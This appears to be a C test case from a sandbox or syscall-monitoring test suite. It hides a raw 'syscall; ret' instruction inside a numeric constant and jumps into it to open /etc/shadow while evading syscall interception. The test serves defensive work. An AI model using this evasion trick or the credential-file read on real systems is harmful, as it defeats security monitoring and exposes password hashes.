/* attack: hides the instruction that calls the kernel in a number, and opens a file by it
 * answer: not-yet denied says=open
 * labs: all
 * uses: tools calls */
typedef long open_fn(const char *path, long flags, long mode, ...);

/* The number's bytes, read as code: syscall; ret. */
static unsigned hides(void)
{
	return 0xc3050f;
}

/* A call of a function with any number of arguments says in al how many of them are floating
 * point: two make it the call number of open. What comes back is the kernel's own answer. */
static void attack(void)
{
	unsigned (*where)(void) = hides;
	const unsigned char *at;
	open_fn *hidden;
	long result;

	memcpy(&at, &where, sizeof at);
	while (memcmp(at, "\x0f\x05\xc3", 3) != 0)
		at++;
	memcpy(&hidden, &at, sizeof hidden);
	result = hidden("/etc/shadow", 0, 0, 1.0, 2.0);
	errno = (int)-result;
	call_see("open", result);
}
